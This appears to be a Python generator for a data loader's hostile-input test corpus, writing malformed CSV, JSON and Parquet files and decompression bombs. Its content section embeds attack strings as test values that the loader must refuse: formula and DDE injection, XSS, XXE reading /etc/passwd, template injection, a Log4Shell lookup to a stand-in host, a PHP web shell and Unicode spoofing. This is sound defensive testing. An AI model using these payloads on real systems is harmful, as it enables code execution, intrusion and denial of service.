#!/usr/bin/env python3
"""Writes the input files and manifest.yaml (for maintainers; the files are kept in the repository).

    pip install pyarrow==26.0.1 fastavro==1.13.1 xlwt==1.3.0 pyyaml
    python tests/corpus/hostile/generate.py

Every case states what must come of it. Add one here, run this, and commit what it wrote.
"""

import datetime
import gzip
import io
import json
import pathlib
import struct
import zipfile
import zlib

import fastavro
import pyarrow as pa
import pyarrow.ipc as ipc
import pyarrow.parquet as pq
import xlwt
import yaml

HERE = pathlib.Path(__file__).resolve().parent
CASES = []
HEAD = "id,n,amount,day,seen_at,flag,note\n"


def put(folder, name, data):
    path = HERE / folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data if isinstance(data, bytes) else data.encode())
    return f"{folder}/{name}"


class Literal(yaml.SafeDumper):
    """Texts of several lines as blocks."""


Literal.add_representer(str, lambda dumper, text: dumper.represent_scalar("tag:yaml.org,2002:str", text, style="|" if "\n" in text else None))


def case(name, why, expect, *, source="csv", contract="typed", input=None, **more):
    CASES.append({"name": name, "why": why, "source": source, "contract": contract, "input": input, **more, "expect": expect})


def loads(loaded, refused, rows=None, query=None):
    """`refused` is 0, or the rows that each rule refused."""
    expect = {"loaded": loaded, "rejected": sum(refused.values()) if refused else 0, "refused": refused or {}}
    if rows is not None:
        expect["rows"] = rows
    if query is not None:
        expect["query"] = query
    return expect


def fails(error, exit, refused=None):
    return {"error": error, "exit": exit, **({"refused": refused} if refused else {})}


# ---------------------------------------------------------------- CSV


def csv(name, why, body, expect, *, head=HEAD, **more):
    data = (head.encode() + body) if isinstance(body, bytes) else head + body
    case("csv-" + name, why, expect, input=put("csv", name + ".csv", data), **more)


def row(n, id="a", amount="", day="", seen_at="", flag="", note=""):
    return f"{id},{n},{amount},{day},{seen_at},{flag},{note}\n"


csv("na-undeclared", "NA is no number unless the source declares it as a null token", row(1, amount="1.5") + row(2, amount="NA"),
    loads(1, {"type of amount": 1}, "n\n1\n", "select n from typed order by n"))
csv("na-declared", "with `null: [NA]`, NA is null in numbers, dates and texts, but a quoted \"NA\" is a text",
    row(1, amount="NA", day="NA", note="NA") + row(2, note='"NA"'), source="csv_na",
    expect=loads(2, 0, "n,no_amount,no_day,note\n1,true,true,\n2,true,true,NA\n",
                 "select n, amount is null as no_amount, day is null as no_day, note from typed order by n"))
csv("thousands", "1,234 with a thousands separator is no number", row(1, amount='"1,234"') + row(2, amount="1234"), loads(1, {"type of amount": 1}, "n,ok\n2,true\n", "select n, amount = 1234 as ok from typed order by n"))
csv("impossible-dates", "days that no calendar has",
    row(1, day="2013-02-30") + row(2, day="2013-02-29") + row(3, day="2012-02-29") + row(4, day="2013-13-01") + row(5, day="2013-2-3") + row(6, day="0000-00-00"),
    loads(1, {"type of day": 5}, "n,ok\n3,true\n", "select n, day = date '2012-02-29' as ok from typed order by n"))
csv("mixed-line-ends", "LF and CRLF in one file end rows alike, and no CR stays in a value", (row(1, note="x").replace("\n", "\r\n") + row(2, note="y") + row(3, note="z").replace("\n", "\r\n")).encode(),
    loads(3, 0, "n,note,length\n1,x,1\n2,y,1\n3,z,1\n", "select n, note, character_length(note) as length from typed order by n"))
csv("byte-order-mark", "a UTF-8 mark is not part of the first column's name", row(1), loads(1, 0, "n,id\n1,a\n", "select n, id from typed order by n"), head="\ufeff" + HEAD)
csv("latin-1-undeclared", "a byte that is not UTF-8 is refused, never replaced", row(1, note="cafe").encode() + row(2, note="caf\xe9").encode("latin-1"),
    loads(1, {"not_utf8 of note": 1}, "n,note\n1,cafe\n", "select n, note from typed order by n"))
csv("latin-1-declared", "with `encoding: latin-1` the same byte is é", row(1, note="caf\xe9").encode("latin-1"), source="csv_latin1",
    expect=loads(1, 0, "n,note\n1,café\n", "select n, note from typed order by n"))
csv("utf-16", "UTF-16 is named and not guessed at", "", fails("it is UTF-16", 3), head=(HEAD + row(1)).encode("utf-16").decode("latin-1"))
(HERE / "csv/utf-16.csv").write_bytes((HEAD + row(1)).encode("utf-16"))
csv("duplicate-header", "which of two columns is meant is not guessed", "a,1,,,,,x,2\n", fails("column n stands there more than once", 3), head=HEAD.replace("\n", ",n\n"))
csv("no-header", "a file without a header: its first row is values, which no error tells", row(1, id="Ada") + row(2), fails("columns 3 and 4 have the same name; rename one of them at the source, or set `header: false`", 3), head="")
csv("carriage-returns", "lines that end with a carriage return alone are one line, and no file without rows", row(1).replace("\n", "\r"), fails("a carriage return alone ends no line", 3), head=HEAD.replace("\n", "\r"))
csv("ragged", "a row with a field too few, or too many, is refused; the others are not moved", row(1) + "a,2,\n" + row(3) + "a,4,,,,,x,extra\n" + row(5),
    loads(3, {"malformed:ragged": 2}, "n\n1\n3\n5\n", "select n from typed order by n"))
csv("missing-column", "a contract's column that the file lacks", "a\n", fails("find column n", 3), head="id\n")
csv("wrong-delimiter", "a file with semicolons, read with commas, has one column", (row(1)).replace(",", ";"), fails("find column id", 3), head=HEAD.replace(",", ";"))
csv("unauthorised-invalid-bytes", "no byte of a column that no contract names is decoded", b"a,1,,,,,x,\xff\xfe\x80\n" + b"a,2,,,,,y,\xc3\x28\n", head=HEAD.replace("\n", ",secret\n"),
    expect=loads(2, 0, "n,note\n1,x\n2,y\n", "select n, note from typed order by n"))
csv("nan-and-infinity", "neither is a number that a sum survives", row(1, amount="NaN") + row(2, amount="inf") + row(3, amount="-Infinity") + row(4, amount="1"),
    loads(1, {"type:not_finite of amount": 3}, "n\n4\n", "select n from typed order by n"))
csv("not-numbers", "hexadecimal, underscores, full-width digits, two points, an overflow", row(1, amount="0x10") + row(2, amount="1_000") + row(3, amount="１２") + row(4, amount="1.2.3") + row(5, amount="1e400") + row(6, amount="12"),
    loads(1, {"type of amount": 4, "type:range of amount": 1}, "n\n6\n", "select n from typed order by n"))
csv("beyond-2-to-53", "integers past what a double holds stay what they are; past 64 bits they are refused",
    row(9007199254740993) + row(9223372036854775807) + row(9223372036854775808) + row(-9223372036854775809),
    loads(2, {"type:range of n": 2}, "n\n9007199254740993\n9223372036854775807\n", "select n from typed order by n"))
FLOATS = {"contract": "floats", "head": "n,amount,small\n"}
csv("floats-beyond-2-to-53", "a whole number that a double does not hold is refused in every spelling, and a fraction where a double has none",
    "1,9007199254740993,\n2,9007199254740993.0,\n3,9007199254740993e0,\n4,90071992547409930e-1,\n5,9007199254740993.5,\n6,9007199254740992.0,\n7,90071992547409920e-1,\n8,,16777217.0\n9,,1.6777216e7\n",
    loads(3, {"type:precision of amount": 5, "type:precision of small": 1}, "n,ok\n6,true\n7,true\n9,true\n",
          "select n, coalesce(amount = 9007199254740992, small = 16777216) as ok from typed order by n"), **FLOATS)
csv("floats-underflow", "what is not zero does not become zero, and no exponent costs memory",
    "1,1e-400,\n2,-1e-400,\n3,1e400,\n4,1e999999999999999999999,\n5,1e-999999999999999999999,\n6,0e999999999999999999999,\n7,,1e-50\n8,,1e39\n9,5e-324,0.5\n",
    loads(2, {"type:range of amount": 5, "type:range of small": 2}, "n,ok\n6,true\n9,true\n", "select n, case when n = 6 then amount = 0 else amount > 0 end as ok from typed order by n"), **FLOATS)
csv("years-beyond-utc", "an offset leads out of the years 1 to 9999", row(1, seen_at="0001-01-01T00:00:00+14:00") + row(2, seen_at="9999-12-31T23:59:59-14:00") + row(3, seen_at="9999-12-31T09:59:59-14:00"),
    loads(1, {"type:range of seen_at": 2}, "n,ok\n3,true\n", "select n, seen_at is not null as ok from typed order by n"))
csv("fraction-in-integer", "1.5 is not rounded to fit an integer", row("1.5") + row(2), loads(1, {"type of n": 1}, "n\n2\n", "select n from typed order by n"))
csv("leading-zeros", "an identifier keeps its zeros", row(1, id="007") + row(2, id="0000000000000000000001"), loads(2, 0, "n,id\n1,007\n2,0000000000000000000001\n", "select n, id from typed order by n"))
csv("time-zones", "an offset names a moment; one that no place has is refused", row(1, seen_at="2013-01-01T10:00:00Z") + row(2, seen_at="2013-01-01T12:00:00+02:00") + row(3, seen_at="2013-01-01T10:00:00+25:00") + row(4, seen_at="2013-01-01T25:00:00Z"),
    loads(2, {"type of seen_at": 2}, "moments\n1\n", "select count(distinct seen_at) as moments from typed"))
csv("unclosed-quote", "what follows a quote that never closes cannot be told apart", row(1) + 'a,2,,,,,"never\n' + row(3), fails("record 2 opens a quoted field that never closes", 3))
csv("quoted-line-end", "a line end, a delimiter and a quote inside quotes belong to the value", row(1, note='"a\nb, ""c"""') + row(2),
    loads(2, 0, "n,length\n1,8\n2,\n", "select n, character_length(note) as length from typed order by n"))
csv("quote-inside-field", "a stray quote is refused, not repaired", row(1, note='"a"b') + row(2), loads(1, {"malformed:bad_quote": 1}, "n\n2\n", "select n from typed order by n"))
csv("empty-file", "no bytes, so not even a header", "", fails("holds no record", 3), head="")
csv("header-only", "nothing read, nothing loaded, and no error", "", loads(0, 0))
csv("no-last-line-end", "the last row counts without a line end", row(1) + row(2).rstrip("\n"), loads(2, 0, "n\n1\n2\n", "select n from typed order by n"))
csv("required-missing", "an empty required value", row(1) + row(""), loads(1, {"primaryKey:null of n": 1}, "n\n1\n", "select n from typed order by n"))
csv("key-twice", "the second row with the same primary key is refused", row(1) + row(2) + row(1), loads(2, {"primaryKey of n": 1}, "n\n1\n2\n", "select n from typed order by n"))
csv("too-long-text", "lengths are characters, not bytes", row(1, note="é" * 40) + row(2, note="é" * 41), loads(1, {"maxLength of note": 1}, "n\n1\n", "select n from typed order by n"))
csv("not-a-boolean", "yes is no boolean", row(1, flag="true") + row(2, flag="false") + row(3, flag="yes") + row(4, flag="2"), loads(2, {"type of flag": 2}, "n,flag\n1,true\n2,false\n", "select n, flag from typed order by n"))
csv("all-rows-bad", "none loaded of more than none read always fails", row("x") + row("y"), fails("none of 2 rows was loaded", 3, {"type of n": 2}))
csv("over-the-limit", "two bad rows of a hundred are more than the default limit of one percent", "".join(row(n) for n in range(98)) + row("x") * 2, fails("2 of 100 rows broke the contract", 3, {"type of n": 2}), contract="strict")
csv("on-violation-fail", "the default: one bad row and nothing becomes visible", row(1) + row("x"), fails("breaks rule type of column n", 3, {"type of n": 1}), contract="failing")
csv("too-many-columns", "5,000 columns are a wrong delimiter or an attack", ",".join("1" for _ in range(5000)) + "\n", fails("more than 4096 columns", 3), head=",".join(f"c{i}" for i in range(5000)) + "\n")
csv("unclosed-header-quote", "the header's quote is never closed", "1,2\n", fails("read the header", 3), head='id,"n,amount\n')
good = gzip.compress((HEAD + row(1) + row(2)).encode(), 9, mtime=0)
case("csv-gzip-two-members", "a gzip file may have several members; all are read", loads(3, 0, "n\n1\n2\n3\n", "select n from typed order by n"),
     input=put("csv", "two-members.csv.gz", good + gzip.compress(row(3).encode(), 9, mtime=0)))
case("csv-gzip-cut", "a compressed file that was cut off has lost rows", fails("ends before its end mark", 4), input=put("csv", "cut.csv.gz", good[:-10]))
case("csv-gzip-damaged", "the checksum of a compressed file does not fit", fails("stream is damaged", 3), input=put("csv", "damaged.csv.gz", good[:-8] + bytes([good[-8] ^ 1]) + good[-7:]))
case("csv-line-2gb", "one line of 2 GB is refused without being held in memory", loads(2, {"malformed:too_long": 1}, "n\n1\n3\n", "select n from typed order by n"), input={"generator": "line_2gb"})
case("csv-gzip-bomb", "a small file that grows without end", fails("grows by more than", 3), input={"generator": "gzip_bomb"})
case("csv-zstd-bomb", "a small file that grows without end", fails("grows by more than", 3), input={"generator": "zstd_bomb"})

# What is a risk in itself: values that fit their column.


def content(name, why, notes, refused, kept=("an ordinary note",)):
    """Notes that are refused, and then some that are not."""
    lines = [row(n, note='"' + note.replace('"', '""') + '"') for n, note in enumerate([*notes, *kept], 1)]
    wanted = "n\n" + "".join(f"{n}\n" for n in range(len(notes) + 1, len(notes) + len(kept) + 1))
    csv("content-" + name, why, "".join(lines), loads(len(kept), {f"content:{kind} of note": count for kind, count in refused.items()}, wanted, "select n from typed order by n"))


content("formula", "what a spreadsheet runs when the table is exported", ["=1+1", '=HYPERLINK("http://a.example")', "@SUM(1+1)", "+SUM(A1)"], {"formula": 4},
        ["-5", "+33 6 12 34 56 78", "- item (note)", "@handle", "-item(s)", "-", "==="])
content("dde", "a cell that starts a program", ["=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1)*cmd|' /C calc'!A0"], {"formula": 4}, ["- a | b | c"])
content("formula-behind", "white space, quotes and invisible characters before the sign are taken away by spreadsheets", ["\t=1+1", " =1+1", "'=1+1", '"=1+1', "\u00a0=1+1", "\ufeff=1+1"], {"formula": 6})
content("formula-full-width", "full-width signs are signs to some spreadsheets", ["\uff1d1+1", "\uff0bcmd|' /C calc'!A0", "\uff20SUM(1+1)"], {"formula": 3}, ["\uff0d\uff15"])
content("formula-other-file", "a value of a file elsewhere, for which the spreadsheet opens it", ["=[book.xls]Sheet1!A1", "+'\\\\host\\share\\[b.xls]S'!A1"], {"formula": 2})
content("control", "control characters of both sets", ["bell\x07", "esc\x1b[2J", "nul\x00", "c1\x9b2J", "del\x7f"], {"control": 5}, ["tab\tand\r\nline ends"])
content("bidi-override", "text that reads in another order than it stands", ["access\u202elevel", "\u202dabc\u202c"], {"bidi": 2}, ["\u05e9\u05dc\u05d5\u05dd\u200f!"])
content("bidi-isolates", "parts without an end, or that turn where nothing does", ["\u2067if (admin)\u2069", "\u202aC:\\Users", "abc\u202c"], {"bidi": 3}, ["\u202b\u05e9\u05dc\u05d5\u05dd abc\u202c", "\u202a+33 6 12\u202c"])
content("hidden", "characters of no width in a word and at its ends", ["ad\u200bmin", "admin\u200b", "ad\u200dmin", "ad\ufeffmin", "hi\U000e0068\U000e0069"], {"bidi": 5},
        ["\U0001f469\u200d\U0001f467", "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645", "\u0915\u094d\u200d\u0937"])
content("homoglyph", "Cyrillic, Greek and full-width letters that pass for Latin ones in identifiers", ["p\u0430yp\u0430l.com", "ann@ex\u0430mple.org", "g\u03bf\u03bfgle.com", "\u0430dmin", "\uff41dmin"], {"homoglyph": 5},
        ["\u043f\u0440\u0438\u0432\u0435\u0442", "USB-\u043a\u0430\u0431\u0435\u043b\u044c", "\u03bdmax", "\u03bcm"])
content("homoglyph-host", "a host all in Cyrillic that reads as another", ["https://\u0430\u0440\u0440\u04cf\u0435.com"], {"homoglyph": 1}, ["https://\u043f\u043e\u0447\u0442\u0430.ru"])
content("script", "a script, however its tag is written", ["<script>alert(1)</script>", "<SCRIPT src=//a.example>", "<script", "<svg/onload=alert(1)>", "<img src=x onerror = alert(1)>"], {"markup": 5}, ["<b>bold</b>", "a < b", "List<Object>"])
content("script-address", "addresses that are run", ["javascript:alert(1)", "<a href='javascript:x'>", "java\tscript:alert(1)", "data:text/html,<b>x</b>"], {"markup": 4}, ["JavaScript: The Good Parts"])
content("entity", "entities of XML that read files", ['<!ENTITY x SYSTEM "file:///etc/passwd">', "<!DOCTYPE a [<!ELEMENT a ANY>]>"], {"markup": 2}, ["<!DOCTYPE html>"])
content("template", "a template that reaches into the program that fills it", ["{{ ''.__class__.__mro__ }}", "${T(java.lang.Runtime)}"], {"markup": 2}, ["{{ name }}", "${HOME}"])
content("log4shell", "a look-up that a logging library runs", ["${jndi:ldap://a.example/x}", "${${lower:j}ndi:ldap://a.example/x}"], {"pattern": 2}, ["${user}"])
content("web-shell", "a program of a web server", ["<?php @eval($_POST['x']); ?>", '<%eval request("x")%>'], {"pattern": 2}, ["<?php echo 1; ?>"])
content("private-key", "a key that has no place in a table", ["-----BEGIN " + "PRIVATE KEY-----"], {"pattern": 1}, ["-----BEGIN CERTIFICATE-----"])
content("encoded-program", "a program in Base64", ["TVqQAAMAAAAEAAAA//8AALgAAAA"], {"pattern": 1})
csv("content-before-others", "a risk is told before any other rule that the row breaks", row("x", note="=1+1") + row(2, note="=" + "1" * 50) + row(3),
    loads(1, {"content:formula of note": 2}, "n\n3\n", "select n from typed order by n"))

# ---------------------------------------------------------------- NDJSON


def nd(name, why, lines, expect, **more):
    data = lines if isinstance(lines, bytes) else "".join(line + "\n" for line in lines)
    case("ndjson-" + name, why, expect, source="ndjson", input=put("ndjson", name + ".ndjson", data), **more)


nd("nested-value", "an object or a list is no scalar", ['{"n":1,"note":"x"}', '{"n":2,"note":{"a":1}}', '{"n":3,"note":[null]}'], loads(1, {"type of note": 2}, "n\n1\n", "select n from typed order by n"))
nd("nested-nulls", "nulls deep inside what no contract names are stepped over", ['{"n":1,"other":{"a":[null,{"b":null}]}}', '{"n":2,"other":null,"note":null}'], loads(2, 0, "n,none\n1,true\n2,true\n", "select n, note is null as none from typed order by n"))
nd("key-twice", "which of two values is meant is not guessed", ['{"n":1}', '{"n":2,"n":3}', '{"n":4,"\\u006e":5}'], loads(1, {"malformed:duplicate_key": 2}, "n\n1\n", "select n from typed order by n"))
nd("escaped-key", "a key written with escapes is the same key", ['{"\\u006e":1,"n\\u006fte":"x"}'], loads(1, 0, "n,note\n1,x\n", "select n, note from typed order by n"))
nd("not-json", "trailing comma, single quotes, a comment, no closing brace", ['{"n":1}', '{"n":2,}', "{'n':3}", '{"n":4} // four', '{"n":5'], loads(1, {"malformed:invalid_json": 4}, "n\n1\n", "select n from typed order by n"))
nd("nan-token", "JSON has no NaN, no infinity and no leading zeros", ['{"n":1,"amount":1}', '{"n":2,"amount":NaN}', '{"n":3,"amount":-Infinity}', '{"n":4,"amount":01}', '{"n":5,"amount":1e400}'], loads(1, {"malformed:invalid_json": 3, "type:range of amount": 1}, "n\n1\n", "select n from typed order by n"))
nd("beyond-2-to-53", "integers past what a double holds stay what they are", ['{"n":9007199254740993}', '{"n":9223372036854775808}'], loads(1, {"type:range of n": 1}, "n\n9007199254740993\n", "select n from typed order by n"))
nd("floats-beyond-2-to-53", "a whole number that a double does not hold is refused in every spelling, and what would become zero",
   ['{"n":1,"amount":9007199254740993}', '{"n":2,"amount":9007199254740993.0}', '{"n":3,"amount":9007199254740993e0}', '{"n":4,"amount":9007199254740993.5}', '{"n":5,"amount":1e-400}', '{"n":6,"amount":9007199254740992.0}'],
   loads(1, {"type:precision of amount": 4, "type:range of amount": 1}, "n,ok\n6,true\n", "select n, amount = 9007199254740992 as ok from typed order by n"), contract="floats")
nd("one-array", "a JSON array is named as what it is", ['[{"n":1},', '{"n":2}]'], fails("JSON array", 3))
nd("not-an-object", "a line that is JSON but no object", ['{"n":1}', "42", '"text"', "null"], loads(1, {"malformed:not_an_object": 3}, "n\n1\n", "select n from typed order by n"))
nd("too-deep", "nesting without end, in a key that no contract names", ['{"n":1}', '{"n":2,"other":' + "[" * 5000 + "]" * 5000 + "}"], loads(1, {"malformed:too_deep": 1}, "n\n1\n", "select n from typed order by n"))
nd("lone-surrogate", "half a character is refused; a whole pair is one", ['{"n":1,"note":"\\ud83d\\ude00"}', '{"n":2,"note":"\\ud83d"}'], loads(1, {"malformed:invalid_json": 1}, "n,length\n1,1\n", "select n, character_length(note) as length from typed order by n"))
nd("invalid-utf-8", "bytes that are not UTF-8 in a value that is wanted", b'{"n":1}\n{"n":2,"note":"caf\xe9"}\n', loads(1, {"not_utf8 of note": 1}, "n\n1\n", "select n from typed order by n"))
nd("number-as-text", "\"2\" is a text, and no number unless the contract says so", ['{"n":1}', '{"n":"2"}'], loads(1, {"type of n": 1}, "n\n1\n", "select n from typed order by n"))
nd("required-missing", "a missing key is null", ['{"n":1}', '{"id":"a"}', '{"n":null}'], loads(1, {"primaryKey:null of n": 2}, "n\n1\n", "select n from typed order by n"))
nd("byte-order-mark", "a UTF-8 mark is not part of the first line", b'\xef\xbb\xbf{"n":1}\n{"n":2}\n', loads(2, 0, "n\n1\n2\n", "select n from typed order by n"))
nd("fraction-in-integer", "1.5 is not rounded to fit an integer", ['{"n":1}', '{"n":1.5}'], loads(1, {"type of n": 1}, "n\n1\n", "select n from typed order by n"))
nd("content", "escapes of JSON hide nothing from inspection", ['{"n":1,"note":"\\u003d1+1"}', '{"n":2,"note":"nul\\u0000"}', '{"n":3,"note":"\\u003cscript>"}', '{"n":4,"note":"ad\\u200bmin"}', '{"n":5}'],
   loads(1, {"content:formula of note": 1, "content:control of note": 1, "content:markup of note": 1, "content:bidi of note": 1}, "n\n5\n", "select n from typed order by n"))

# ---------------------------------------------------------------- Parquet

FULL = {"id": pa.string(), "n": pa.int64(), "amount": pa.float64(), "day": pa.date32(), "seen_at": pa.timestamp("us", "UTC"), "flag": pa.bool_(), "note": pa.string()}


def table(rows, types=FULL):
    return pa.table({name: pa.array([r.get(name) for r in rows], kind) for name, kind in types.items()})


def parquet_bytes(data, **options):
    sink = pa.BufferOutputStream()
    pq.write_table(data, sink, **{"compression": "zstd", "store_schema": False, **options})
    return sink.getvalue().to_pybytes()


def par(name, why, data, expect, **more):
    case("parquet-" + name, why, expect, source="parquet", input=put("parquet", name + ".parquet", data), **more)


plain = parquet_bytes(table([{"n": n, "id": "a", "note": "x"} for n in range(100)]))


def lying(data, rows, claimed):
    """The footer's own count of rows, changed; the row group's stays."""
    length = struct.unpack("<I", data[-8:-4])[0]
    start = len(data) - 8 - length

    def varint(value):
        value <<= 1
        out = b""
        while value > 127:
            out, value = out + bytes([value & 127 | 128]), value >> 7
        return out + bytes([value])

    at = data.index(b"\x16" + varint(rows), start) + 1
    assert len(varint(rows)) == len(varint(claimed))
    changed = data[:at] + varint(claimed) + data[at + len(varint(claimed)):]
    assert pq.ParquetFile(pa.BufferReader(changed)).metadata.num_rows == claimed
    return changed


par("lying-footer", "the footer promises a row that no row group has", lying(plain, 100, 101), fails("promises 101 rows, 100 were found", 3))
par("cut", "the file ends before its footer", plain[:-50], fails("footer of the Parquet file", 3))
par("empty-file", "no bytes", b"", fails("footer of the Parquet file", 3))
par("not-parquet", "a CSV with the wrong name", (HEAD + row(1)).encode(), fails("footer of the Parquet file", 3))
par("footer-too-long", "the footer's length points before the file's start", plain[:-8] + struct.pack("<I", 2**31 - 1) + b"PAR1", fails("footer of the Parquet file", 3))
par("damaged-page", "a compressed page does not open", plain.replace(b"\x28\xb5\x2f\xfd", b"\x28\xb5\x2f\xfc"), fails("decode a page", 3))
par("wrong-type", "a text column where the contract wants an integer", parquet_bytes(table([{"n": "one"}, {"n": "two"}], {**FULL, "n": pa.string()})), fails("none of 2 rows was loaded", 3, {"type of n": 2}))
par("missing-column", "the contract's key is not in the file", parquet_bytes(table([{"id": "a"}], {k: v for k, v in FULL.items() if k != "n"})), fails("find column n", 3))
par("nested-column", "a struct where the contract wants a text", parquet_bytes(table([{"n": 1, "note": {"a": 1}}], {**FULL, "note": pa.struct([("a", pa.int64())])})), fails("it is a struct", 3))
par("nested-nulls", "nested nulls in a column that no contract names are not decoded",
    parquet_bytes(table([{"n": 1, "other": [None, [None, 1]]}, {"n": 2, "other": None}], {**FULL, "other": pa.list_(pa.list_(pa.int64()))})),
    loads(2, 0, "n\n1\n2\n", "select n from typed order by n"))
par("nan", "NaN and infinity in a column of doubles", parquet_bytes(table([{"n": 1, "amount": 1.5}, {"n": 2, "amount": float("nan")}, {"n": 3, "amount": float("-inf")}])),
    loads(1, {"type:not_finite of amount": 2}, "n\n1\n", "select n from typed order by n"))
par("required-null", "a null key", parquet_bytes(table([{"n": 1}, {"n": None}])), loads(1, {"primaryKey:null of n": 1}, "n\n1\n", "select n from typed order by n"))
par("no-rows", "a file without rows", parquet_bytes(table([])), loads(0, 0))
par("duplicate-column", "two columns of one name", parquet_bytes(pa.Table.from_arrays([pa.array([1]), pa.array([2])], names=["n", "n"])), fails("column n stands there more than once", 3))
bad_text = pa.Array.from_buffers(pa.string(), 2, [None, pa.py_buffer(struct.pack("<3i", 0, 1, 5)), pa.py_buffer(b"xcaf\xe9")])
par("invalid-utf-8", "a text column that holds other bytes", parquet_bytes(pa.table({"n": pa.array([1, 2], pa.int64()), **{k: pa.nulls(2, v) for k, v in FULL.items() if k not in ("n", "note")}, "note": bad_text})), fails("decode a page", 3))

par("int96", "timestamps of a form whose years wrap round", parquet_bytes(table([{"n": 1}]), use_deprecated_int96_timestamps=True), fails("it holds INT96 timestamps", 3))
# Two texts of 200 MiB each, as pages of their own: what a decoder would hold at once does not show in the file's size.
wide = "y" * (200 << 20)
par("page-bombs", "pages of several columns that grow more than a thousandfold", parquet_bytes(table([{"n": 1, "id": wide, "note": wide}]), use_dictionary=False, write_statistics=False, compression_level=19), fails("it grows by more than 1000 times", 3))

# A gzip page that grows to 2 MiB of zeros; the page header promises what stood there before. The column `a` holds the same values as `n`.
twins = {"a": pa.int64(), **FULL}
honest = parquet_bytes(table([{"a": n, "n": n} for n in range(3000)], twins), compression="gzip")
chunks = pq.ParquetFile(pa.BufferReader(honest)).metadata.row_group(0)
decoy, column = chunks.column(0), chunks.column(2)
assert (decoy.path_in_schema, column.path_in_schema) == ("a", "n") and decoy.total_compressed_size == column.total_compressed_size
bomb = gzip.compress(bytes(2 << 20), 9, mtime=0)
page = honest.index(b"\x1f\x8b", column.dictionary_page_offset)
assert page + len(bomb) < column.data_page_offset
grown = honest[:page] + bomb + honest[page + len(bomb):]
par("page-bomb", "a page that grows beyond what its header promises", grown, fails("beyond the 24000 bytes that its header promises", 3))


def zigzag(value, length=0):
    """A number as the footer's protocol writes it, in at least so many bytes."""
    value, out = value << 1, b""
    while value > 127 or len(out) + 1 < length:
        out, value = out + bytes([value & 127 | 128]), value >> 7
    return out + bytes([value])


true_offset = zigzag(column.data_page_offset)
footer = len(grown) - 8 - struct.unpack("<I", grown[-8:-4])[0]
assert grown.count(true_offset, footer) == 1
at = grown.index(true_offset, footer)
led = grown[:at] + zigzag(decoy.dictionary_page_offset, len(true_offset)) + grown[at + len(true_offset):]
assert pq.ParquetFile(pa.BufferReader(led)).metadata.row_group(0).column(2).data_page_offset == decoy.dictionary_page_offset
par("pages-elsewhere", "the same, with a footer that says the column's data pages begin in another column", led, fails("beyond the 24000 bytes that its header promises", 3))

# ---------------------------------------------------------------- dialects and encodings of CSV

DIALECT = {"source": "csv_dialect"}
csv("utf-16-half-character", "half a character of UTF-16 is refused in its cell, never replaced", b"\xff\xfe" + (HEAD + row(1, note="x")).encode("utf-16le") + "b,2,,,,,".encode("utf-16le") + b"\x00\xd8" + "y\n".encode("utf-16le"),
    loads(1, {"not_utf8 of note": 1}, "n,note\n1,x\n", "select n, note from typed order by n"), head="", source="csv_utf16")
csv("utf-16-other-mark", "the mark says the other order of bytes than the source", b"\xfe\xff" + (HEAD + row(1)).encode("utf-16be"), fails("its first bytes say that it is utf-16be", 3), head="", source="csv_utf16")
csv("utf-16-odd", "a UTF-16 file with half a unit at its end", b"\xff\xfe" + (HEAD + row(1) + row(2)).encode("utf-16le")[:-1], loads(1, {"not_utf8 of note": 1}, "n\n1\n", "select n from typed order by n"), head="", source="csv_utf16")
COMMA = {"source": "csv_comma", "head": HEAD.replace(",", ";")}
csv("decimal-comma", "with a decimal comma a point is none, and groups are of three digits",
    "".join(f"a;{n};{amount};;;;\n" for n, amount in enumerate(["1,5", "1.5", "1.234,5", "1\u202f234,5", "1.23,4", "1,234.5", "1,2,3", "12 34"], 1)),
    loads(3, {"type of amount": 5}, "n,ok\n1,true\n3,true\n4,true\n", "select n, amount in (1.5, 1234.5) as ok from typed order by n"), **COMMA)
csv("escapes", "an escaped quote, delimiter, line end and escape belong to the value; an escape before anything else is a letter",
    "# comment, with \"a quote\n" + row(1, note='"x\\"y"') + row(2, note="x\\,y") + row(3, note="x\\\ny") + row(4, note="x\\\\") + row(5, note="x\\y"), source="csv_dialect",
    expect=loads(5, 0, "n,length\n1,3\n2,3\n3,3\n4,2\n5,3\n", "select n, character_length(note) as length from typed order by n"))
csv("escape-at-the-end", "an escape with nothing behind it", row(1) + "a,2,,,,,x\\", loads(2, 0, "n,note\n1,\n2,x\\\n", "select n, note from typed order by n"), source="csv_dialect")

# ---------------------------------------------------------------- JSON documents


def js(name, why, data, expect, **more):
    case("json-" + name, why, expect, source=more.pop("source", "json"), input=put("json", more.pop("file", name + ".json"), data), **more)


js("lines", "an object a line is no document", '{"n":1}\n{"n":2}\n', fails("what stands at its top is no list", 3))
js("two-documents", "something stands behind the document", '[{"n":1}]\n[{"n":2}]\n', fails("something stands behind the document", 3))
js("cut", "the document ends in the middle of a record", '[{"n":1},{"n":2,"note":"x', fails("it ends in the middle, after record 1", 3))
js("cut-between", "the document ends between records", '[{"n":1},', fails("it ends in the middle, after record 1", 3))
js("empty-file", "no bytes are no document", "", fails("it ends in the middle", 3))
js("not-json", "a comma too much between records", '[{"n":1},,{"n":2}]', fails("it is not JSON, after record 1", 3))
js("bad-record", "what is wrong inside a record is counted, and the others are read", '[{"n":1},{"n":2,},{"n":3 "note":1},{\'n\':4},{"n":5}]', loads(2, {"malformed:invalid_json": 3}, "n\n1\n5\n", "select n from typed order by n"))
js("not-an-object", "elements that are no objects", '[{"n":1},2,"x",null,[{"n":3}]]', loads(1, {"malformed:not_an_object": 4}, "n\n1\n", "select n from typed order by n"))
js("key-twice", "which of two values is meant is not guessed", '[{"n":1},{"n":2,"\\u006e":3}]', loads(1, {"malformed:duplicate_key": 1}, "n\n1\n", "select n from typed order by n"))
js("too-deep", "nesting without end around the records", '{"other":' + "[" * 5000 + "]" * 5000 + ',"result":{"items":[{"n":1}]}}', fails("it is nested too deeply", 3), source="json_records")
js("too-deep-in-record", "nesting without end in a record", '[{"n":1},{"n":2,"other":' + "[" * 5000 + "]" * 5000 + "}]", loads(1, {"malformed:too_deep": 1}, "n\n1\n", "select n from typed order by n"))
js("no-list", "nothing stands where the records should be", '{"result":{"rows":[{"n":1}]}}', fails("there is no list at result.items", 3), source="json_records")
js("two-lists", "the list stands there twice", '{"result":{"items":[{"n":1}]},"result":{"items":[{"n":2}]}}', fails("the list at result.items stands there twice", 3), source="json_records")
